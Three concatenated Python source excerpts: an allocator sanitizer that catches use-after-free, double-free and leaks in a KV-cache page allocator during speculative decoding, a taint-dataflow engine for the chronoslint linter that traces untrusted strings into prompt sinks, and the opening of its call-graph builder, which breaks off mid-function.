    # spec-v2 verify parks the window K/V and commits in a LATER call;
    # between the two, nothing in the allocator pins the verified
    # sequences, so a free() in that window silently turns the commit
    # into a scatter through a dead (or recycled) block table.  The
    # engine duck-types these hooks: spec_park() right after the verify
    # stash, spec_check_commit() right before the commit scatter.
    def spec_park(self, meta) -> None:
        """Record the verify-time window: ``meta[slot] = (seq_id, pos,
        w)``, plus a snapshot of each seq's block table for drift
        attribution.  Overwrites any previous park (rebuild or a dropped
        round discards the old window along with the engine's stash)."""
        stack = _stack()
        inner = self._inner
        parked = {}
        for slot, (seq_id, pos, w) in meta.items():
            st = inner.get(seq_id)
            # only the pages OWNED at verify time (commit's extend may
            # add more; borrowed prefix pages are cache-owned)
            table = []
            if st is not None:
                if _is_slot_major(inner):
                    table = [int(st.block_table[0])]
                else:
                    n = inner.pages_needed(st.length)
                    table = [int(p) for p in st.block_table[st.n_borrowed:n]]
            parked[slot] = (seq_id, table, stack)
        self._parked = parked
        self.validate("spec_park")

    def spec_check_commit(self, accepts) -> None:
        """Validate the parked window is still committable: every
        accepted slot's sequence is still live, and none of its
        verify-time pages were poisoned or freed in the park window."""
        parked = self._parked
        self._parked = None
        if parked is None:
            self._raise(
                "spec_check_commit without a parked spec_verify window — "
                "the verify bypassed the sanitizer (allocator swapped "
                "mid-round?)"
            )
        inner = self._inner
        if _is_slot_major(inner):
            freed = {int(s) for s in inner._free_slots}
        else:
            freed = {int(p) for p in inner._free}
        for slot in accepts:
            if slot not in parked:
                self._raise(
                    f"spec-window mismatch: commit names slot {slot}, "
                    f"which the parked verify never scored"
                )
            seq_id, table, stack = parked[slot]
            if inner.get(seq_id) is None:
                self._raise(
                    f"spec-window use-after-free: seq {seq_id} (slot "
                    f"{slot}) was freed between spec_verify and "
                    f"spec_commit; the commit would scatter window K/V "
                    f"through a dead block table\n"
                    f"{self._blame(seq_id=seq_id)}\n"
                    f"window parked at:\n{stack}"
                )
            for p in table:
                if p == POISON_PAGE:
                    self._raise(
                        f"spec-window use-after-free: seq {seq_id} (slot "
                        f"{slot}) holds a POISONED verify-time block "
                        f"table\n{self._blame(seq_id=seq_id)}"
                    )
                if not _is_slot_major(inner) and p in freed:
                    self._raise(
                        f"spec-window use-after-free: verify-time page "
                        f"{p} of seq {seq_id} (slot {slot}) is on the "
                        f"free list at commit time\n"
                        f"{self._blame(page=p, seq_id=seq_id)}"
                    )
        self.validate("spec_check_commit")

    # -- validation --------------------------------------------------------
    def validate(self, op: str = "validate") -> None:
        """Recompute the ownership invariant from the inner allocator's
        ground-truth state; raise attributed SanitizerError on the first
        violation.  Runs after EVERY wrapped mutation."""
        inner = self._inner
        if _is_slot_major(inner):
            self._validate_slots(inner, op)
        else:
            self._validate_paged(inner, op)
        try:
            inner.check_invariants()
        except SanitizerError:
            raise
        except AssertionError as e:
            self._raise(f"after {op}: {e}")

    def _validate_paged(self, inner, op: str) -> None:
        free_list = [int(p) for p in inner._free]
        free_set: Set[int] = set(free_list)
        if len(free_set) != len(free_list):
            dup = sorted(p for p in free_set if free_list.count(p) > 1)[0]
            self._raise(
                f"double-free detected after {op}: page {dup} appears "
                f"{free_list.count(dup)}x on the free list\n"
                f"{self._blame(page=dup)}"
            )
        for seq_id, st in inner._seqs.items():
            n = inner.pages_needed(st.length)
            for p in st.block_table[st.n_borrowed:n]:
                p = int(p)
                if p == POISON_PAGE:
                    self._raise(
                        f"use-after-free detected after {op}: seq {seq_id} "
                        f"references a POISONED block table (the table was "
                        f"freed, then reused)\n{self._blame(seq_id=seq_id)}"
                    )
                if p in free_set:
                    self._raise(
                        f"use-after-free detected after {op}: seq {seq_id} "
                        f"still references page {p}, which is on the free "
                        f"list\n{self._blame(page=p, seq_id=seq_id)}"
                    )

    def _validate_slots(self, inner, op: str) -> None:
        free_slots = [int(s) for s in inner._free_slots]
        free_set = set(free_slots)
        if len(free_set) != len(free_slots):
            dup = sorted(s for s in free_set if free_slots.count(s) > 1)[0]
            self._raise(
                f"double-free detected after {op}: slot {dup} appears "
                f"{free_slots.count(dup)}x on the free-slot list"
            )
        for seq_id, slot in inner._slot_of.items():
            if slot in free_set:
                self._raise(
                    f"use-after-free detected after {op}: seq {seq_id} "
                    f"still owns slot {slot}, which is on the free-slot "
                    f"list\n{self._blame(seq_id=seq_id)}"
                )
            st = inner._seqs.get(seq_id)
            if st is not None and int(st.block_table[0]) == POISON_PAGE:
                self._raise(
                    f"use-after-free detected after {op}: seq {seq_id} "
                    f"references a POISONED block table\n"
                    f"{self._blame(seq_id=seq_id)}"
                )

    # -- end-of-run --------------------------------------------------------
    def assert_quiescent(self) -> None:
        """Leak-on-finish check: every sequence released, every page free
        or (refcount-0) cache-owned.  Call after the workload drains."""
        inner = self._inner
        if inner._seqs:
            lines = []
            for seq_id in sorted(inner._seqs):
                lines.append(
                    f"  seq {seq_id} never freed; allocated at:\n"
                    f"{self._blame(seq_id=seq_id)}"
                )
            self._raise(
                "leak-on-finish: sequences still hold pages after the "
                "workload drained:\n" + "\n".join(lines)
            )
        reclaimer = getattr(inner, "reclaimer", None)
        entries = getattr(reclaimer, "_entries", None)
        if entries is not None:
            leaked = {h: e.refs for h, e in entries.items() if e.refs != 0}
            if leaked:
                self._raise(
                    "leak-on-finish: prefix-cache entries still hold "
                    f"non-zero refcounts after drain: "
                    + ", ".join(f"{h.hex()[:12]}…={r}"
                                for h, r in leaked.items())
                )
        if _is_slot_major(inner):
            if len(inner._free_slots) != inner.n_slots:
                self._raise(
                    f"leak-on-finish: {inner.n_slots - len(inner._free_slots)}"
                    " slot(s) neither free nor owned by a live sequence"
                )
        else:
            cache_owned = set()
            if reclaimer is not None:
                cache_owned = {int(p) for p in reclaimer.owned_pages()}
            accounted = set(int(p) for p in inner._free) | cache_owned
            if len(accounted) != inner.cfg.num_pages:
                missing = sorted(
                    set(range(inner.cfg.num_pages)) - accounted
                )[:8]
                self._raise(
                    f"leak-on-finish: pages {missing} are neither free nor "
                    f"cache-owned\n{self._blame(page=missing[0])}"
                )
        self.validate("assert_quiescent")

    @property
    def reports(self) -> List[str]:
        """Every violation this sanitizer has raised (audit trail)."""
        return list(self._reports)

    def __repr__(self) -> str:
        return f"AllocatorSanitizer({self._inner!r})"
