"""Forward dataflow (taint) framework over the chronoslint call graph.

The per-file rules (CHR001–010) pattern-match single functions; the bugs
that motivated this module crossed function boundaries — an
attacker-controlled ``argv`` string flowing through ``Event.format`` →
chain memory → ``build_verdict_prompt`` → the analyst payload.  This is
a *small*, bounded engine, not a general abstract interpreter:

* the lattice is a label set: {source-tainted} ∪ {function params},
  unioned through assignments, f-strings, ``%``/``+``/``str.format``
  concatenation, container literals, comprehensions, and returns;
* interprocedural flow is summary-based: each function gets
  ``ret`` (does a source, or which params, reach the return value) and
  ``param_sinks`` (which params reach a sink inside the callee, with
  the in-callee witness chain), iterated to a global fixpoint;
* instance attributes are a field-sensitive global map keyed
  ``(class_qualname, attr)`` with a name-only fallback, so
  ``self.memory[key].append(tainted)`` in one method taints
  ``self.memory.get(key)`` in another;
* every reported flow carries a witness — an ordered, capped chain of
  ``file:line`` hops from source to sink — because an interprocedural
  finding without the path is unreviewable.

Rules declare a :class:`TaintSpec` (sources, sinks, sanitizers) and get
back :class:`DataflowFinding`\\ s.  Calls resolved only ambiguously are
treated as opaque (args union into the result, nothing flows into the
candidates) — precision over noise.

Pure ast — must never import jax or the package under analysis.
"""
from __future__ import annotations

import ast
import dataclasses
from typing import Dict, FrozenSet, Iterable, List, Optional, Set, Tuple

from .callgraph import (
    KIND_CTOR,
    KIND_UNIQUE,
    PRECISE_KINDS,
    CallGraph,
    FuncInfo,
    Project,
)

_MAX_ROUNDS = 8           # global fixpoint cap
_MAX_HOPS = 12            # witness chain cap
_MAX_CHAINS_PER_PARAM = 4  # sink chains recorded per (summary, param)

# builtins whose return cannot carry string taint
_CLEAN_CALLS = frozenset({
    "len", "int", "float", "bool", "ord", "hash", "min", "max", "abs",
    "round", "id", "isinstance", "issubclass", "callable", "range",
})

# method calls that mutate their receiver in place with their arguments
_MUTATORS = frozenset({
    "append", "extend", "add", "insert", "put", "setdefault", "update",
    "appendleft", "push",
})


@dataclasses.dataclass(frozen=True)
class Hop:
    path: str
    line: int
    desc: str

    def render(self) -> str:
        return f"{self.path}:{self.line}: {self.desc}"


class TV:
    """A taint value: source-taint with witness, plus the set of the
    current function's params whose taint flows here."""

    __slots__ = ("tainted", "witness", "params", "param_witness")

    def __init__(self, tainted: bool = False,
                 witness: Tuple[Hop, ...] = (),
                 params: FrozenSet[int] = frozenset(),
                 param_witness: Optional[Dict[int, Tuple[Hop, ...]]] = None):
        self.tainted = tainted
        self.witness = witness
        self.params = params
        self.param_witness = param_witness or {}

    @property
    def any(self) -> bool:
        return self.tainted or bool(self.params)

    def union(self, other: "TV") -> "TV":
        if not other.any:
            return self
        if not self.any:
            return other
        witness = self.witness
        if other.tainted and (not self.tainted
                              or len(other.witness) < len(witness)):
            witness = other.witness
        pw = dict(self.param_witness)
        for p, w in other.param_witness.items():
            if p not in pw or len(w) < len(pw[p]):
                pw[p] = w
        return TV(self.tainted or other.tainted, witness,
                  self.params | other.params, pw)

    def with_hop(self, hop: Hop) -> "TV":
        if not self.any:
            return self
        wit = self.witness
        if self.tainted and len(wit) < _MAX_HOPS and (
                not wit or wit[-1] != hop):
            wit = wit + (hop,)
        pw = {}
        for p, w in self.param_witness.items():
            if len(w) < _MAX_HOPS and (not w or w[-1] != hop):
                pw[p] = w + (hop,)
            else:
                pw[p] = w
        return TV(self.tainted, wit, self.params, pw)

    def key(self) -> Tuple:
        return (self.tainted, self.params)


EMPTY = TV()


@dataclasses.dataclass(frozen=True)
class SinkChain:
    """A sink reachable from a function param, with the in-function hops."""

    sink_path: str
    sink_line: int
    desc: str
    hops: Tuple[Hop, ...]


class Summary:
    def __init__(self) -> None:
        self.ret: TV = EMPTY
        self.param_sinks: Dict[int, List[SinkChain]] = {}

    def key(self) -> Tuple:
        return (
            self.ret.key(),
            tuple(sorted(
                (p, c.sink_path, c.sink_line)
                for p, chains in self.param_sinks.items() for c in chains
            )),
        )

    def add_param_sink(self, param: int, chain: SinkChain) -> None:
        chains = self.param_sinks.setdefault(param, [])
        for c in chains:
            if (c.sink_path, c.sink_line) == (chain.sink_path,
                                              chain.sink_line):
                return
        if len(chains) < _MAX_CHAINS_PER_PARAM:
            chains.append(chain)


@dataclasses.dataclass
class TaintSpec:
    """Per-rule source/sink/sanitizer declarations."""

    source_attrs: FrozenSet[str] = frozenset()        # X.argv reads
    source_calls: FrozenSet[str] = frozenset()        # fn()/x.m() returns taint
    source_subscript_keys: FrozenSet[str] = frozenset()  # d["prompt"], d.get("prompt")
    sanitizer_calls: FrozenSet[str] = frozenset()     # bare or qualname; returns clean
    sink_calls: Dict[str, Optional[Tuple[int, ...]]] = dataclasses.field(
        default_factory=dict)                          # name -> call-site arg idxs (None = all)
    sink_dict_keys: FrozenSet[str] = frozenset()      # {"prompt": v} / d["prompt"] = v
    sink_desc: str = "tainted value reaches sink"


@dataclasses.dataclass
class DataflowFinding:
    path: str
    line: int
    desc: str
    witness: List[Hop]

    def render_witness(self) -> List[str]:
        return [h.render() for h in self.witness]


class _FuncAnalysis(ast.NodeVisitor):
    """One pass over one function body with the current global state."""

    def __init__(self, engine: "TaintEngine", fn: FuncInfo,
                 collect: Optional[List[DataflowFinding]] = None):
        self.e = engine
        self.fn = fn
        self.collect = collect
        self.env: Dict[str, TV] = {}
        self.homes: Dict[str, Tuple[Optional[str], str]] = {}  # var -> field key
        self.summary = Summary()
        args = fn.node.args
        for i, name in enumerate(fn.params):
            self.env[name] = TV(params=frozenset({i}),
                                param_witness={i: ()})

    # -- driving ----------------------------------------------------------
    def run(self) -> Summary:
        body = self.fn.node.body
        for _ in range(2):  # second pass picks up loop-carried taint
            for stmt in body:
                self.visit(stmt)
        return self.summary

    def _hop(self, node: ast.AST, desc: str) -> Hop:
        return Hop(self.fn.path, getattr(node, "lineno", self.fn.lineno), desc)

    # -- statements -------------------------------------------------------
    def visit_FunctionDef(self, node):  # nested defs are their own nodes
        pass

    visit_AsyncFunctionDef = visit_FunctionDef

    def visit_ClassDef(self, node):
        pass

    def visit_Assign(self, node: ast.Assign):
        tv = self.eval(node.value)
        for tgt in node.targets:
            self._assign(tgt, tv, node.value)

    def visit_AnnAssign(self, node: ast.AnnAssign):
        if node.value is not None:
            self._assign(node.target, self.eval(node.value), node.value)

    def visit_AugAssign(self, node: ast.AugAssign):
        tv = self.eval(node.value)
        if isinstance(node.target, ast.Name):
            cur = self.env.get(node.target.id, EMPTY)
            self.env[node.target.id] = cur.union(tv)
            self._write_home(node.target.id, tv)
        elif self._self_attr_root(node.target):
            self.e.taint_field(self.fn, self._self_attr_root(node.target), tv)

    def _assign(self, tgt: ast.AST, tv: TV, value: ast.AST) -> None:
        if isinstance(tgt, ast.Name):
            self.env[tgt.id] = tv
            self.homes.pop(tgt.id, None)
            root = self._self_attr_root(value)
            if root:  # alias of a self field: mutations write back
                self.homes[tgt.id] = (self.fn.cls, root)
        elif isinstance(tgt, (ast.Tuple, ast.List)):
            for elt in tgt.elts:
                self._assign(elt, tv, value)
        elif isinstance(tgt, ast.Starred):
            self._assign(tgt.value, tv, value)
        elif isinstance(tgt, ast.Attribute):
            root = self._self_attr_root(tgt)
            if root:
                self.e.taint_field(self.fn, root, tv)
        elif isinstance(tgt, ast.Subscript):
            # d["prompt"] = tainted  -> sink; any store taints the container
            key = tgt.slice
            if (isinstance(key, ast.Constant) and isinstance(key.value, str)
                    and key.value in self.e.spec.sink_dict_keys):
                self._sink_hit(tgt, f'store to key "{key.value}"', tv)
            root = self._self_attr_root(tgt)
            if root:
                self.e.taint_field(self.fn, root, tv)
            elif isinstance(tgt.value, ast.Name):
                name = tgt.value.id
                self.env[name] = self.env.get(name, EMPTY).union(tv)
                self._write_home(name, tv)

    def visit_Return(self, node: ast.Return):
        if node.value is not None:
            self.summary.ret = self.summary.ret.union(
                self.eval(node.value).with_hop(
                    self._hop(node, f"returned from {self.fn.name}")))

    def visit_For(self, node: ast.For):
        tv = self.eval(node.iter)
        self._assign(node.target, tv, node.iter)
        for stmt in node.body + node.orelse:
            self.visit(stmt)

    visit_AsyncFor = visit_For

    def visit_Expr(self, node: ast.Expr):
        self.eval(node.value)

    def generic_visit(self, node):
        # evaluate bare expressions inside compound statements so sinks
        # in conditions / with-items are still seen
        for child in ast.iter_child_nodes(node):
            if isinstance(child, ast.expr):
                self.eval(child)
            else:
                self.visit(child)

    # -- field helpers ----------------------------------------------------
    @staticmethod
    def _self_attr_root(node: ast.AST) -> Optional[str]:
        """``self.X``, ``self.X[...]``, ``self.X.anything`` -> ``X``."""
        while isinstance(node, ast.Subscript):
            node = node.value
        if (isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "self"):
            return node.attr
        if isinstance(node, ast.Attribute):
            inner = node.value
            while isinstance(inner, ast.Subscript):
                inner = inner.value
            if (isinstance(inner, ast.Attribute)
                    and isinstance(inner.value, ast.Name)
                    and inner.value.id == "self"):
                return inner.attr
        if isinstance(node, ast.Call):
            # self.X.get(...) aliases the field's contents
            f = node.func
            if isinstance(f, ast.Attribute):
                return _FuncAnalysis._self_attr_root(f.value)
        return None

    def _write_home(self, name: str, tv: TV) -> None:
        home = self.homes.get(name)
        if home and tv.any:
            self.e.taint_field_key(home, tv)

    # -- sinks ------------------------------------------------------------
    def _sink_hit(self, node: ast.AST, what: str, tv: TV) -> None:
        if not tv.any:
            return
        line = getattr(node, "lineno", self.fn.lineno)
        desc = f"{self.e.spec.sink_desc} ({what})"
        if tv.tainted:
            hops = tv.witness + (Hop(self.fn.path, line, f"sink: {what}"),)
            if self.collect is not None:
                self.collect.append(DataflowFinding(
                    self.fn.path, line, desc, list(hops[:_MAX_HOPS])))
        for p in tv.params:
            hops = tv.param_witness.get(p, ()) + (
                Hop(self.fn.path, line, f"sink: {what}"),)
            self.summary.add_param_sink(p, SinkChain(
                self.fn.path, line, desc, hops[:_MAX_HOPS]))

    # -- expressions ------------------------------------------------------
    def eval(self, node: Optional[ast.AST]) -> TV:
        if node is None:
            return EMPTY
        meth = getattr(self, "eval_" + type(node).__name__, None)
        if meth is not None:
            return meth(node)
        # default: union of child expressions (BinOp, BoolOp, IfExp,
        # Compare, Starred, containers, comprehensions handled below)
        tv = EMPTY
        for child in ast.iter_child_nodes(node):
            if isinstance(child, ast.expr):
                tv = tv.union(self.eval(child))
        return tv

    def eval_Constant(self, node):
        return EMPTY

    def eval_Name(self, node: ast.Name):
        return self.env.get(node.id, EMPTY)

    def eval_Lambda(self, node):
        return EMPTY

    def eval_Attribute(self, node: ast.Attribute):
        spec = self.e.spec
        if node.attr in spec.source_attrs:
            return TV(tainted=True, witness=(
                self._hop(node, f"source: .{node.attr} read"),))
        if (isinstance(node.value, ast.Name) and node.value.id == "self"
                and self.fn.cls):
            tv = self.e.field_taint(self.fn, node.attr)
            if tv.any:
                return tv
        return self.eval(node.value)

    def eval_Subscript(self, node: ast.Subscript):
        spec = self.e.spec
        key = node.slice
        if (isinstance(key, ast.Constant) and isinstance(key.value, str)
                and key.value in spec.source_subscript_keys):
            return TV(tainted=True, witness=(
                self._hop(node, f'source: ["{key.value}"] read'),))
        return self.eval(node.value).union(self.eval(key))

    def eval_JoinedStr(self, node: ast.JoinedStr):
        tv = EMPTY
        for part in node.values:
            if isinstance(part, ast.FormattedValue):
                tv = tv.union(self.eval(part.value))
        return tv

    def eval_FormattedValue(self, node: ast.FormattedValue):
        return self.eval(node.value)

    def _eval_comprehension(self, node):
        for gen in node.generators:
            self._assign(gen.target, self.eval(gen.iter), gen.iter)
        tv = EMPTY
        if isinstance(node, ast.DictComp):
            tv = tv.union(self.eval(node.key)).union(self.eval(node.value))
        else:
            tv = tv.union(self.eval(node.elt))
        return tv

    eval_ListComp = _eval_comprehension
    eval_SetComp = _eval_comprehension
    eval_GeneratorExp = _eval_comprehension
    eval_DictComp = _eval_comprehension

    def eval_Dict(self, node: ast.Dict):
        tv = EMPTY
        for k, v in zip(node.keys, node.values):
            vtv = self.eval(v)
            if (isinstance(k, ast.Constant) and isinstance(k.value, str)
                    and k.value in self.e.spec.sink_dict_keys):
                self._sink_hit(v, f'dict key "{k.value}"', vtv)
            tv = tv.union(vtv)
            if k is not None:
                tv = tv.union(self.eval(k))
        return tv

    def eval_Call(self, node: ast.Call):  # noqa: C901 - the dispatch hub
        spec = self.e.spec
        f = node.func
        name = f.attr if isinstance(f, ast.Attribute) else (
            f.id if isinstance(f, ast.Name) else "")
        arg_tvs = [self.eval(a) for a in node.args]
        kw_tvs = {kw.arg: self.eval(kw.value) for kw in node.keywords}
        recv_tv = self.eval(f.value) if isinstance(f, ast.Attribute) else EMPTY
        all_args = arg_tvs + list(kw_tvs.values())

        # sanitizer: result is clean regardless of inputs
        if name in spec.sanitizer_calls:
            return EMPTY
        edges = self.e.graph.resolutions(node)
        for edge in edges:
            if edge.callee in spec.sanitizer_calls:
                return EMPTY

        # declared call-site sink
        if name in spec.sink_calls:
            idxs = spec.sink_calls[name]
            checked = (enumerate(arg_tvs) if idxs is None
                       else ((i, arg_tvs[i]) for i in idxs
                             if i < len(arg_tvs)))
            for i, tv in checked:
                self._sink_hit(node, f"arg {i} of {name}()", tv)
            for kname, tv in kw_tvs.items():
                if kname in spec.sink_dict_keys:
                    self._sink_hit(node, f"kwarg {kname} of {name}()", tv)

        # declared source call
        if name in spec.source_calls:
            return TV(tainted=True,
                      witness=(self._hop(node, f"source: {name}()"),))

        # mutating method: arguments flow into the receiver
        if isinstance(f, ast.Attribute) and name in _MUTATORS:
            mut = EMPTY
            for tv in all_args:
                mut = mut.union(tv)
            if mut.any:
                root = self._self_attr_root(f.value)
                if root:
                    self.e.taint_field(self.fn, root, mut.with_hop(
                        self._hop(node, f"{name}() into self.{root}")))
                elif isinstance(f.value, ast.Name):
                    vn = f.value.id
                    self.env[vn] = self.env.get(vn, EMPTY).union(mut)
                    self._write_home(vn, mut.with_hop(
                        self._hop(node, f"{name}() into {vn}")))

        # subscript-key source via .get("prompt")
        if (name == "get" and node.args
                and isinstance(node.args[0], ast.Constant)
                and isinstance(node.args[0].value, str)
                and node.args[0].value in spec.source_subscript_keys):
            return TV(tainted=True, witness=(
                self._hop(node, f'source: .get("{node.args[0].value}")'),))

        # resolved in-project callees: flow args in, summary out
        precise = [e for e in edges if e.kind in PRECISE_KINDS]
        if precise:
            result = EMPTY
            guessed = False
            for edge in precise:
                result = result.union(self._apply_summary(
                    node, edge, arg_tvs, kw_tvs, recv_tv))
                guessed = guessed or edge.kind == KIND_UNIQUE
            if guessed:
                # unique-name binding is a guess — stay conservative and
                # keep the opaque-call passthrough too
                result = result.union(recv_tv)
                for a in all_args:
                    result = result.union(a)
            return result

        if name in _CLEAN_CALLS:
            return EMPTY
        # unknown callee: result carries receiver + args (str.format,
        # sep.join(parts), "%" helpers, stdlib passthroughs)
        tv = recv_tv
        for a in all_args:
            tv = tv.union(a)
        return tv

    def _apply_summary(self, node: ast.Call, edge, arg_tvs, kw_tvs,
                       recv_tv: TV = EMPTY) -> TV:
        callee = self.e.project.functions.get(edge.callee)
        if callee is None:
            return EMPTY
        summary = self.e.summaries.get(edge.callee)
        # map call-site args -> callee param indices
        offset = 0
        if callee.is_method and callee.params and callee.params[0] in (
                "self", "cls"):
            is_attr_call = isinstance(node.func, ast.Attribute)
            if is_attr_call or edge.kind == KIND_CTOR:
                offset = 1
        param_tv: Dict[int, TV] = {}
        if offset == 1 and edge.kind != KIND_CTOR and recv_tv.any:
            param_tv[0] = recv_tv  # receiver flows in as self
        for i, tv in enumerate(arg_tvs):
            param_tv[i + offset] = tv
        for kname, tv in kw_tvs.items():
            idx = callee.param_index(kname) if kname else None
            if idx is not None:
                param_tv[idx] = tv

        # dataclass-style ctor with no explicit __init__ body to analyze:
        # keyword/positional args taint the class fields
        if edge.kind == KIND_CTOR:
            cls_qual = callee.cls or edge.callee
            ci = self.e.project.classes.get(cls_qual)
            if ci is not None and ci.fields:
                for j, tv in enumerate(arg_tvs):
                    if j < len(ci.fields) and tv.any:
                        self.e.taint_field_key((cls_qual, ci.fields[j]), tv)
                for kname, tv in kw_tvs.items():
                    if kname in ci.fields and tv.any:
                        self.e.taint_field_key((cls_qual, kname), tv)

        if summary is None:
            tv = EMPTY
            for v in param_tv.values():
                tv = tv.union(v)
            return tv

        # args reaching sinks inside the callee (transitively)
        for pidx, chains in summary.param_sinks.items():
            tv = param_tv.get(pidx)
            if tv is None or not tv.any:
                continue
            call_hop = self._hop(
                node, f"passed to {callee.name}() param {pidx}")
            for chain in chains:
                if tv.tainted and self.collect is not None:
                    hops = (tv.witness + (call_hop,) + chain.hops)[:_MAX_HOPS]
                    self.collect.append(DataflowFinding(
                        chain.sink_path, chain.sink_line, chain.desc,
                        list(hops)))
                for p in tv.params:
                    hops = (tv.param_witness.get(p, ()) + (call_hop,)
                            + chain.hops)[:_MAX_HOPS]
                    self.summary.add_param_sink(p, SinkChain(
                        chain.sink_path, chain.sink_line, chain.desc, hops))

        # return value
        ret = summary.ret
        result = EMPTY
        if ret.tainted:
            result = result.union(TV(
                tainted=True,
                witness=(ret.witness + (self._hop(
                    node, f"tainted return from {callee.name}()"),)
                )[:_MAX_HOPS]))
        for pidx in ret.params:
            tv = param_tv.get(pidx)
            if tv is not None and tv.any:
                result = result.union(tv.with_hop(self._hop(
                    node, f"flows through {callee.name}()")))
        return result


class TaintEngine:
    """Global fixpoint over function summaries + the field-taint map."""

    def __init__(self, project: Project, graph: CallGraph, spec: TaintSpec):
        self.project = project
        self.graph = graph
        self.spec = spec
        self.summaries: Dict[str, Summary] = {}
        self.fields: Dict[Tuple[Optional[str], str], TV] = {}
        self._fields_dirty = False

    # -- field map --------------------------------------------------------
    def taint_field(self, fn: FuncInfo, attr: str, tv: TV) -> None:
        self.taint_field_key((fn.cls, attr), tv)

    def taint_field_key(self, key: Tuple[Optional[str], str], tv: TV) -> None:
        # fields keep only source taint: param indices are meaningless
        # outside the function that wrote them
        if not tv.tainted:
            return
        cur = self.fields.get(key, EMPTY)
        stripped = TV(tainted=True, witness=tv.witness)
        new = cur.union(stripped)
        if not cur.tainted:
            self._fields_dirty = True
        self.fields[key] = new

    def field_taint(self, fn: FuncInfo, attr: str) -> TV:
        for cls in (self.project.mro(fn.cls) if fn.cls else []):
            tv = self.fields.get((cls, attr))
            if tv is not None and tv.any:
                return tv
        # name-only fallback: same attr tainted on any class
        out = EMPTY
        for (_, a), tv in self.fields.items():
            if a == attr:
                out = out.union(tv)
        return out

    # -- driver -----------------------------------------------------------
    def run(self) -> List[DataflowFinding]:
        order = sorted(self.project.functions)
        for _ in range(_MAX_ROUNDS):
            changed = False
            self._fields_dirty = False
            for qual in order:
                fn = self.project.functions[qual]
                summary = _FuncAnalysis(self, fn).run()
                old = self.summaries.get(qual)
                if old is None or old.key() != summary.key():
                    changed = True
                self.summaries[qual] = summary
            if not changed and not self._fields_dirty:
                break
        findings: List[DataflowFinding] = []
        for qual in order:
            fn = self.project.functions[qual]
            _FuncAnalysis(self, fn, collect=findings).run()
        return _dedupe(findings)


def _dedupe(findings: List[DataflowFinding]) -> List[DataflowFinding]:
    best: Dict[Tuple[str, int], DataflowFinding] = {}
    for f in findings:
        k = (f.path, f.line)
        cur = best.get(k)
        if cur is None or len(f.witness) < len(cur.witness):
            best[k] = f
    return sorted(best.values(), key=lambda f: (f.path, f.line))


def run_taint(project: Project, graph: CallGraph,
              spec: TaintSpec) -> List[DataflowFinding]:
    """Run one rule's source→sink analysis over the whole project."""
    return TaintEngine(project, graph, spec).run()
