"""Module-resolved whole-program call graph over the chronos_trn tree.

chronoslint's interprocedural rules (CHR011–013) need to follow a value
or a held lock *across* function boundaries — the exact blind spot of
the per-file rules (CHR001/CHR004/CHR007 were each fooled by a helper
call in a shipped PR).  This module builds the supporting structure:

* :class:`Project` — every file parsed once, modules named, imports
  resolved (absolute and relative), classes indexed with their methods,
  base classes, and *attribute types* (``self.engine = InferenceEngine``
  in ``__init__``, annotated params assigned to ``self.x``, dataclass
  field annotations);
* :class:`CallGraph` — one :class:`CallEdge` per call site, recorded as
  ``caller → callee @ file:line`` with a resolution ``kind`` so
  consumers can choose how much ambiguity to follow.

Resolution is deliberately *bounded*, not clever: ``self.m()`` walks the
known MRO (depth-capped), ``self.attr.m()`` and ``var.m()`` go through
the attribute/local type maps, plain names go through the import map,
and a method name defined by exactly one known class binds to it
(``kind='unique_name'``).  Anything else is either ``'ambiguous'``
(every known class defining the name, capped) or unresolved — rules
that need soundness follow only the precise kinds.

Pure ast/os — the linter must never import jax (or the package under
analysis).
"""
from __future__ import annotations

import ast
import dataclasses
import os
from typing import Dict, Iterable, List, Optional, Set, Tuple

# resolution kinds, roughly precise -> loose
KIND_DIRECT = "direct"          # module function / imported symbol
KIND_METHOD = "method"          # self.m(), typed receiver, MRO hit
KIND_CTOR = "ctor"              # ClassName(...) -> Class.__init__
KIND_UNIQUE = "unique_name"     # method name unique across known classes
KIND_AMBIGUOUS = "ambiguous"    # several known classes define the name

PRECISE_KINDS = frozenset({KIND_DIRECT, KIND_METHOD, KIND_CTOR, KIND_UNIQUE})

_MRO_DEPTH = 5          # base-class walk cap
_AMBIGUOUS_CAP = 8      # max candidates recorded for a loose name match
_CLOSURE_DEPTH = 4      # nested-def (closure) nesting cap


def _unparse(node: Optional[ast.AST]) -> str:
    if node is None:
        return ""
    try:
        return ast.unparse(node)
    except Exception:  # pragma: no cover - malformed synthetic nodes
        return ""


@dataclasses.dataclass
class FuncInfo:
    """One function or method as the graph sees it."""

    qualname: str                   # chronos_trn.sensor.client.AnalysisClient.analyze
    module: str
    cls: Optional[str]              # class QUALNAME when a method
    name: str
    path: str
    node: ast.AST                   # FunctionDef | AsyncFunctionDef
    lineno: int
    params: List[str]               # declared order, self/cls included
    is_method: bool

    def param_index(self, name: str) -> Optional[int]:
        try:
            return self.params.index(name)
        except ValueError:
            return None


@dataclasses.dataclass
class ClassInfo:
    qualname: str
    module: str
    name: str
    path: str
    bases: List[str]                   # resolved base qualnames (best effort)
    methods: Dict[str, str]            # method name -> func qualname
    attr_types: Dict[str, str]         # self.<attr> -> class qualname
    fields: List[str]                  # dataclass-style annotated fields, in order


@dataclasses.dataclass
class CallEdge:
    caller: str
    callee: str
    path: str
    line: int
    kind: str
    call: ast.Call = dataclasses.field(repr=False, compare=False, default=None)


class Project:
    """Every parsed file plus the module/class/function indices the
    dataflow and lock analyses run on."""

    def __init__(self) -> None:
        self.sources: Dict[str, str] = {}          # path -> src
        self.trees: Dict[str, ast.Module] = {}     # path -> tree
        self.module_of: Dict[str, str] = {}        # path -> module name
        self.path_of: Dict[str, str] = {}          # module name -> path
        self.functions: Dict[str, FuncInfo] = {}
        self.classes: Dict[str, ClassInfo] = {}
        self.imports: Dict[str, Dict[str, str]] = {}   # module -> alias -> target
        self._methods_by_name: Dict[str, List[str]] = {}
        self._class_nodes: Dict[int, str] = {}         # id(ClassDef) -> qualname

    # -- construction -----------------------------------------------------
    @classmethod
    def from_sources(cls, sources: Dict[str, str]) -> "Project":
        proj = cls()
        for path, src in sorted(sources.items()):
            try:
                tree = ast.parse(src, filename=path)
            except SyntaxError:
                continue  # the per-file driver reports it as CHR000
            proj.sources[path] = src
            proj.trees[path] = tree
            proj.module_of[path] = _module_name(path)
        for path in proj.trees:
            proj.path_of.setdefault(proj.module_of[path], path)
        for path, tree in proj.trees.items():
            proj._index_module(path, tree)
        for path, tree in proj.trees.items():
            proj._index_attr_types(path, tree)
        for ci in proj.classes.values():
            for mname, qual in ci.methods.items():
